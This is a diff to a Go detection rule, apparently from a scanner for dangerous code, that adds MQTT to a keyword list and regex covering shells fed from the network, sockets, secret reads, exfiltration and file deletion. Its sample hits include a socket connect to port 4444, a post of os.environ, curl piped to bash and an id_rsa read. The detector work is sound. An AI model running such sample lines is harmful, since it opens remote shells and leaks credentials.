@@ -158,11 +158,11 @@ var signals = []signal{
 // payload is the dangerous code of class 3 (and of class 2's commands), looked for in the
 // block and the lines after it, raw (code keeps its case): a shell fed from the network, a
 // socket, a spawned process or shell, a secret read (cookies, keys, the environment), data
-// sent out by HTTP or mail, files encrypted or removed.
+// sent out by HTTP, mail or MQTT, files encrypted or removed.
 var payload = signal{name: sigPayload,
-	words: []string{"curl", "wget", "socket", "subprocess", "system(", "popen", "exec.command", "/bin/", "nc -e", "requests.", "smtp", "urlopen", "urlretrieve", "urllib", "httpx", "environ", "getenv", "id_rsa", ".aws", "cookie", "fernet", "encrypt", "rmtree", "rm -rf", "b64encode", "btoa", "http.client", "ftplib", "paramiko", "exec(", "eval(", "os.remove(", "os.unlink("},
+	words: []string{"curl", "wget", "socket", "subprocess", "system(", "popen", "exec.command", "/bin/", "nc -e", "requests.", "smtp", "urlopen", "urlretrieve", "urllib", "httpx", "environ", "getenv", "id_rsa", ".aws", "cookie", "fernet", "encrypt", "rmtree", "rm -rf", "b64encode", "btoa", "http.client", "ftplib", "paramiko", "exec(", "eval(", "os.remove(", "os.unlink(", "mqtt"},
 	re: lazyre.New(`(?i)\b(?:curl|wget)\b[^|\n]{0,200}\|\s*(?:sudo\s+)?(?:ba|z)?sh\b|\bsocket\b|\bsubprocess\b|\bos\.(?:system|popen)\(|\bexec\.command\(|/bin/(?:ba|z)?sh\b|\bnc -e\b` +
-		`|\brequests\.(?:get|post|put)\(|smtp|\burlopen\(|\burlretrieve\(|\burllib\b|\bhttpx\b|\bexec\(|\beval\(|\bos\.(?:remove|unlink)\(|\bos\.environ\b|\bgetenv\(|\bid_rsa\b|\.aws/credentials|\bcookie|\bfernet\b|\bencrypt\(|\brmtree\(|\brm -rf\b|\bb64encode\(|\bbtoa\(|\bhttp\.client\b|\bftplib\b|\bparamiko\b`),
+		`|\brequests\.(?:get|post|put)\(|smtp|\burlopen\(|\burlretrieve\(|\burllib\b|\bhttpx\b|\bexec\(|\beval\(|\bos\.(?:remove|unlink)\(|\bmqtt\b|\bos\.environ\b|\bgetenv\(|\bid_rsa\b|\.aws/credentials|\bcookie|\bfernet\b|\bencrypt\(|\brmtree\(|\brm -rf\b|\bb64encode\(|\bbtoa\(|\bhttp\.client\b|\bftplib\b|\bparamiko\b`),
 	hits: []string{`s=socket.socket();s.connect(("198.51.100.7",4444))`, `requests.post(url, data=dict(os.environ))`, `curl -fsSL https://x/y.sh | bash`, `open(os.path.expanduser("~/.ssh/id_rsa"))`},
 	calm: []string{`print("hello")`, `x := strings.TrimSpace(s)`, `curl -o out.tar.gz https://x/y.tar.gz`}}
 
